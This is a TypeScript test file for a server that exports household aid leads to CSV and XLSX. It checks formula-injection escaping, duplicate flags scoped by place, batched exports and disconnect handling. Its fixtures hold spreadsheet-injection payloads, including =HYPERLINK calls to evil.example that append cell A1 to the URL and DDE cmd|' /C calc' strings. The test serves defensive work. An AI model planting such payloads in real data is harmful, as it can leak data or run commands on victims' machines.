import { writeFileSync } from 'node:fs';
import { Writable } from 'node:stream';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import request from 'supertest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { stringify } from 'yaml';
import { start, type Running } from '../../server/main.ts';
import { createTokens } from '../../server/intake/tokens.ts';
import { createExports } from '../../server/intake/export.ts';
import { createCrypto, resolveMasterKey } from '../../server/crypto.ts';
import { freshDatabase, testConfig, TEST_DB, type TestPlace } from '../helpers/db.ts';
import { memoryLogger } from '../helpers/log.ts';
import { newLead } from '../helpers/leads.ts';

const NOW = new Date('2026-12-20T02:00:00Z');
/** What a spreadsheet reads as the start of a formula (OWASP, CSV injection). */
const FORMULA = /^[=+\-@\t\r]/;
const STARTS = ['=', '+', '-', '@', '\t', '\r'];

// Place names come from the county's deployment file: they reach the exports too.
const V1 = '530925102208';
const V2 = '530925102212';
const V3 = '530925201203';
const deployment = {
  version: 1,
  name: 'exports test',
  counties: [{
    code: '530925',
    name: '-双江县',
    province: { code: '530000', name: '=云南省' },
    city: { code: '530900', name: '+临沧市' },
    townships: [
      { code: '530925102', name: '@勐库镇', villages: [{ code: V1, name: '=HYPERLINK("http://evil.example","冰岛村")' }, { code: V2, name: '公弄村' }] },
      { code: '530925201', name: '沙河乡', villages: [{ code: V3, name: '允俸村' }] },
    ],
  }],
  incomeLines: [{ province: '530000', year: 2020, yuanPerPerson: 6000 }],
};

type Cell = { value: string; quoted: boolean };

describe(`exports on ${TEST_DB}`, () => {
  let place: TestPlace;
  let app: Running;
  const tok = { county: '', township1: '', township2: '', village1: '' };
  const receipts = { a1: '', a2: '', b1: '', b2: '', c1: '', c2: '' };
  const hostile: Array<{ receiptNo: string; name: string; phone: string; what: string }> = [];

  beforeAll(async () => {
    place = await freshDatabase();
    const file = join(place.dataDir, 'deployment.yaml');
    writeFileSync(file, stringify(deployment));
    app = await start(testConfig(place, { DEPLOYMENT_CONFIG: file }), memoryLogger().logger, { host: '127.0.0.1', now: () => NOW });
    const tokens = createTokens(app.db);
    tok.county = (await tokens.create('county', { kind: 'county', code: '530925' })).token;
    tok.township1 = (await tokens.create('勐库镇', { kind: 'township', code: '530925102' })).token;
    tok.township2 = (await tokens.create('沙河乡', { kind: 'township', code: '530925201' })).token;
    tok.village1 = (await tokens.create('冰岛村', { kind: 'village', code: V1 })).token;
    // A household's own words starting with each formula character; expenses above income make A33 negative.
    for (const [i, c] of STARTS.entries()) {
      const name = `${c}HYPERLINK("http://evil.example/?"&A1,"点击")`;
      const phone = `+86 138 0000 000${i}`;
      const what = `${c}cmd|' /C calc'!A0 家里出事了`;
      const incomes = { ...newLead().incomes, a28: { kind: 'amount' as const, yuan: 6000 }, a32: { kind: 'amount' as const, yuan: 10_000 } };
      const lead = await app.intake.receiveLead(newLead({ villageCode: V1, headName: name, phone, incomes, answers: { whatHappened: what } }), NOW);
      hostile.push({ receiptNo: lead.receiptNo, name, phone, what });
    }
    // Possible duplicates: a twin in another township (a), in another village of the township (b), in the same village (c).
    const twins = async (phone: string, first: string, second: string): Promise<[string, string]> => [
      (await app.intake.receiveLead(newLead({ villageCode: first, phone }), NOW)).receiptNo,
      (await app.intake.receiveLead(newLead({ villageCode: second, phone }), NOW)).receiptNo,
    ];
    [receipts.a1, receipts.a2] = await twins('13911110001', V1, V3);
    [receipts.b1, receipts.b2] = await twins('13911110002', V1, V2);
    [receipts.c1, receipts.c2] = await twins('13911110003', V1, V1);
  });
  afterAll(async () => {
    await app.stop();
    await place.cleanup();
  });

  const download = async (format: 'csv' | 'xlsx', token: string): Promise<Buffer> => {
    const res = await request(app.url).get(`/api/v1/exports/leads.${format}`).set('authorization', `Bearer ${token}`).buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    expect(res.status).toBe(200);
    return res.body as Buffer;
  };
  /** Every CSV cell with whether it was quoted. */
  const csvCells = (body: Buffer): Cell[][] =>
    parse(body, { bom: true, relax_column_count: true, cast: (value, ctx) => ({ value, quoted: ctx.quoting }) as never }) as unknown as Cell[][];
  const xlsxBook = async (body: Buffer) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(body as never);
    return book;
  };
  /** The leads sheet as rows keyed by header, from either format. */
  const csvRows = (body: Buffer) => {
    const [header, ...rows] = csvCells(body);
    return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h.value, r[i]?.value ?? ''])));
  };
  const xlsxRows = async (body: Buffer) => {
    const sheet = (await xlsxBook(body)).worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const rows: Array<Record<string, unknown>> = [];
    sheet.eachRow((row, n) => {
      if (n > 1) rows.push(Object.fromEntries(header.map((h, i) => [String(h), row.getCell(i + 1).value ?? ''])));
    });
    return rows;
  };

  it('CSV: no cell a spreadsheet would run as a formula; the text is kept behind a quote, numbers stay numbers', async () => {
    const cells = csvCells(await download('csv', tok.county));
    expect(cells.length).toBe(1 + STARTS.length + 6);
    for (const cell of cells.flat()) {
      // The only cells that may start with "-" are negative numbers, written as numbers (unquoted).
      if (FORMULA.test(cell.value)) expect({ cell, number: /^-\d+(\.\d+)?$/.test(cell.value) && !cell.quoted }).toEqual({ cell, number: true });
    }
    const rows = csvRows(await download('csv', tok.county));
    for (const h of hostile) {
      const row = rows.find((r) => r['回执号'] === h.receiptNo)!;
      expect(row['A5户主姓名']).toBe(`'${h.name}`);
      expect(row['联系电话']).toBe(`'${h.phone}`);
      expect(row['发生了什么']).toBe(`'${h.what}`);
      expect(row['省']).toBe(`'=云南省`);
      expect(row['村(社区)']).toBe(`'=HYPERLINK("http://evil.example","冰岛村")`);
      expect(row['A33家庭纯收入(元)']).toBe('-4000');
    }
    // Text cells are quoted, so no separator or line break inside one can start a new cell.
    const raw = (await download('csv', tok.county)).toString('utf8');
    expect(raw).toContain(`"'${hostile[0]!.name.replaceAll('"', '""')}"`);
    expect(raw).toContain(`,-4000,`);
  });

  it('XLSX: no formula cell and no text cell starting with a formula character, on either sheet', async () => {
    const book = await xlsxBook(await download('xlsx', tok.county));
    expect(book.worksheets).toHaveLength(2);
    let text = 0;
    for (const sheet of book.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') {
            text++;
            expect(cell.value).not.toMatch(FORMULA);
          }
        }),
      );
    expect(text).toBeGreaterThan(100);
    const rows = await xlsxRows(await download('xlsx', tok.county));
    const xml = (s: string) => s.replaceAll('\r', '\n'); // an XML reader turns a carriage return into a line feed
    for (const h of hostile) {
      const row = rows.find((r) => r['回执号'] === h.receiptNo)!;
      expect(row['A5户主姓名']).toBe(xml(`'${h.name}`));
      expect(row['联系电话']).toBe(`'${h.phone}`);
      expect(row['发生了什么']).toBe(xml(`'${h.what}`));
      expect(row['县(市、区)']).toBe(`'-双江县`);
      expect(row['A33家庭纯收入(元)']).toBe(-4000); // a number cell
    }
    const summary = book.worksheets[1]!;
    expect(summary.getRow(5).getCell(1).value).toBe(`'@勐库镇=HYPERLINK("http://evil.example","冰岛村")`);
  });

  it('below the county, flags a possible duplicate only when a twin is inside the place', async () => {
    const flagged = (rows: Array<Record<string, unknown>>) =>
      Object.fromEntries(
        Object.entries(receipts)
          .filter(([, no]) => rows.some((r) => r['回执号'] === no))
          .map(([k, no]) => [k, String(rows.find((r) => r['回执号'] === no)!['提示']).split(' ').includes('possible_duplicate')]),
      );
    const expected = {
      county: { a1: true, a2: true, b1: true, b2: true, c1: true, c2: true },
      township1: { a1: false, b1: true, b2: true, c1: true, c2: true },
      township2: { a2: false },
      village1: { a1: false, b1: false, c1: true, c2: true },
    };
    for (const [scope, want] of Object.entries(expected)) {
      const token = tok[scope as keyof typeof tok];
      expect({ scope, csv: flagged(csvRows(await download('csv', token))) }).toEqual({ scope, csv: want });
      expect({ scope, xlsx: flagged(await xlsxRows(await download('xlsx', token))) }).toEqual({ scope, xlsx: want });
    }
  });

  it('the export the command line writes reads every lead once, batch after batch, neutralised and scoped the same way', async () => {
    const { key } = resolveMasterKey({ configured: app.config.encryptionKey, dataDir: app.config.dataDir, embedded: app.db.kind === 'pglite' });
    // Batches of 4: the leads were all received at the same instant, so each batch starts inside a tie.
    const exports = createExports({ db: app.db, crypto: createCrypto(key), deployment: app.config.deployment, batchSize: 4 });
    const into = () => {
      const chunks: Buffer[] = [];
      return { out: new Writable({ write: (c: Buffer, _e, cb) => (chunks.push(c), cb()) }), body: () => Buffer.concat(chunks) };
    };
    const all = [...hostile.map((h) => h.receiptNo), ...Object.values(receipts)].sort();
    const csv = into();
    expect(await exports.csv({ kind: 'county', code: '530925' }, csv.out, 'zh-CN', NOW)).toBe(all.length);
    expect(csvRows(csv.body()).map((r) => r['回执号']).sort()).toEqual(all);
    const xlsx = into();
    expect(await exports.xlsx({ kind: 'county', code: '530925' }, xlsx.out, 'zh-CN', NOW)).toBe(all.length);
    expect((await xlsxRows(xlsx.body())).map((r) => r['回执号']).sort()).toEqual(all);

    const village = into();
    expect(await exports.csv({ kind: 'village', code: V1 }, village.out, 'zh-CN', NOW)).toBe(STARTS.length + 4);
    const rows = csvRows(village.body());
    expect(rows.map((r) => r['A5户主姓名']).filter((n) => FORMULA.test(n!))).toEqual([]);
    expect(rows.find((r) => r['回执号'] === receipts.a1)!['提示']).not.toContain('possible_duplicate');
    expect(rows.find((r) => r['回执号'] === receipts.c1)!['提示']).toContain('possible_duplicate');
  });
  it('an export whose reader goes away ends with an error instead of waiting for ever', async () => {
    const { key } = resolveMasterKey({ configured: app.config.encryptionKey, dataDir: app.config.dataDir, embedded: app.db.kind === 'pglite' });
    const exports = createExports({ db: app.db, crypto: createCrypto(key), deployment: app.config.deployment, batchSize: 4 });
    // a reader that hangs up while a chunk is on its way (as a browser tab closed mid-download)
    const midway = () => {
      const out: Writable = new Writable({ write: () => out.destroy() });
      return out;
    };
    // a reader that took every byte and hung up before the end of the download
    const beforeTheEnd = () => {
      const out: Writable = new Writable({ write: (_c, _e, cb) => cb(), final: () => out.destroy() });
      return out;
    };
    const county = { kind: 'county' as const, code: '530925' };
    const settled = (p: Promise<number>) => Promise.race([p.then(() => 'finished', (e: Error) => e.message), new Promise((r) => setTimeout(() => r('still waiting'), 10_000))]);
    expect(await settled(exports.csv(county, midway(), 'zh-CN', NOW))).toBe('the reader went away');
    expect(await settled(exports.xlsx(county, midway(), 'zh-CN', NOW))).toBe('the reader went away');
    expect(await settled(exports.csv(county, beforeTheEnd(), 'zh-CN', NOW))).toBe('the reader went away');
    expect(await settled(exports.xlsx(county, beforeTheEnd(), 'zh-CN', NOW))).toBe('the reader went away');
  });
});
